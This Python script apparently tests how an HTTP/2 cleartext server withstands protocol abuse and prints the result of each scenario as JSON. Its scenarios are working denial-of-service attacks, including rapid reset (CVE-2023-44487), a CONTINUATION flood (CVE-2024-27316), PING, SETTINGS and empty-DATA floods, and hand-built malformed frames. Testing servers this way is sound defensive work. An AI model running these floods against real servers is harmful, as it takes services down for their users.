#!/usr/bin/env python3
"""HTTP/2 protocol abuse against a cleartext (h2c prior knowledge) listener.

Usage: h2_abuse.py HOST PORT SCENARIO
Prints one JSON object: {"goaway": <error code or null>, "closed": bool, "status": <int or null>,
"detail": str}. Frames are built with hyperframe/hpack directly, so nothing stops us from
sending what a well-behaved client never would.
"""
import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Peer:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, *frames):
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
            return True
        except OSError:
            return False

    def headers(self, stream_id, path="/api/x", extra=(), end_stream=True, end_headers=True):
        block = self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "test"),
                                     (":path", path)] + list(extra))
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame

    def header_block(self, stream_id, extra):
        """A request head split into HEADERS + CONTINUATION frames of at most 16 KiB."""
        block = self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "test"),
                                     (":path", "/api/x")] + list(extra))
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        frames = [HeadersFrame(stream_id, pieces[0], flags=["END_STREAM"])]
        frames += [ContinuationFrame(stream_id, piece) for piece in pieces[1:]]
        frames[-1].flags.add("END_HEADERS")
        return frames

    def read_until(self, predicate, timeout=5.0):
        """Reads frames until predicate(frame) is true, the peer closes, or time runs out."""
        deadline = time.time() + timeout
        result = {"goaway": None, "closed": False, "status": None}
        while time.time() < deadline:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                frame, _ = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                if isinstance(frame, GoAwayFrame):
                    result["goaway"] = frame.error_code
                if isinstance(frame, HeadersFrame):
                    for name, value in self.decoder.decode(frame.data):
                        if name == ":status":
                            result["status"] = int(value)
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.send(SettingsFrame(0, flags=["ACK"]))
                if predicate(frame):
                    return result
            try:
                self.sock.settimeout(max(0.05, deadline - time.time()))
                data = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if not data:
                result["closed"] = True
                return result
            self.buffer += data
        return result


def main():
    host, port, scenario = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    peer = Peer(host, port)
    wants_close = lambda f: False  # read until the server closes
    if scenario == "normal":
        peer.send(peer.headers(1))
        result = peer.read_until(lambda f: isinstance(f, (DataFrame, HeadersFrame)) and "END_STREAM" in f.flags)
    elif scenario == "rapid_reset":
        # CVE-2023-44487: open and cancel streams as fast as possible.
        stream = 1
        for _ in range(40):
            batch = []
            for _ in range(250):
                batch += [peer.headers(stream), RstStreamFrame(stream, error_code=8)]
                stream += 2
            if not peer.send(*batch):
                break
        result = peer.read_until(wants_close)
    elif scenario == "continuation_flood":
        # CVE-2024-27316: a header block that never ends.
        frames = [peer.headers(1, end_headers=False)]
        block = peer.encoder.encode([("x-flood", "a" * 16)])
        for _ in range(20000):
            frames.append(ContinuationFrame(1, block))
        peer.send(*frames)
        result = peer.read_until(wants_close)
    elif scenario == "oversize_headers":
        extra = [("x-big-%d" % i, "v" * 1000) for i in range(100)]  # ~100 KB of headers
        peer.send(*peer.header_block(1, extra))
        result = peer.read_until(lambda f: isinstance(f, (DataFrame, HeadersFrame)) and "END_STREAM" in f.flags)
        # The connection must still serve the next request.
        peer.send(peer.headers(3))
        after = peer.read_until(lambda f: isinstance(f, (DataFrame, HeadersFrame)) and "END_STREAM" in f.flags
                                and f.stream_id == 3)
        result["detail"] = "next status %s" % after["status"]
    elif scenario == "lower_stream_id":
        peer.send(peer.headers(5))
        peer.read_until(lambda f: isinstance(f, (DataFrame, HeadersFrame)) and "END_STREAM" in f.flags)
        peer.send(peer.headers(3))
        result = peer.read_until(wants_close)
    elif scenario == "data_on_stream_zero":
        # DATA (type 0) on stream 0, built by hand: hyperframe refuses to.
        peer.sock.sendall(b"\x00\x00\x04\x00\x00\x00\x00\x00\x00boom")
        result = peer.read_until(wants_close)
    elif scenario == "window_overflow":
        peer.send(WindowUpdateFrame(0, 2**31 - 1), WindowUpdateFrame(0, 2**31 - 1))
        result = peer.read_until(wants_close)
    elif scenario == "ping_flood":
        # Never read; queue PING ACKs until the server stops answering.
        peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(50):
            if not peer.send(*[PingFrame(0, opaque_data=b"12345678") for _ in range(2000)]):
                break
        result = peer.read_until(wants_close, timeout=10)
    elif scenario == "settings_flood":
        for _ in range(50):
            if not peer.send(*[SettingsFrame(0, settings={4: 65535}) for _ in range(2000)]):
                break
        result = peer.read_until(wants_close, timeout=10)
    elif scenario == "empty_data_flood":
        peer.send(peer.headers(1, path="/api/upload", end_stream=False))
        for _ in range(50):
            if not peer.send(*[DataFrame(1, b"") for _ in range(2000)]):
                break
        result = peer.read_until(wants_close, timeout=10)
    else:
        raise SystemExit("unknown scenario " + scenario)
    result.setdefault("detail", "")
    print(json.dumps(result))


if __name__ == "__main__":
    main()
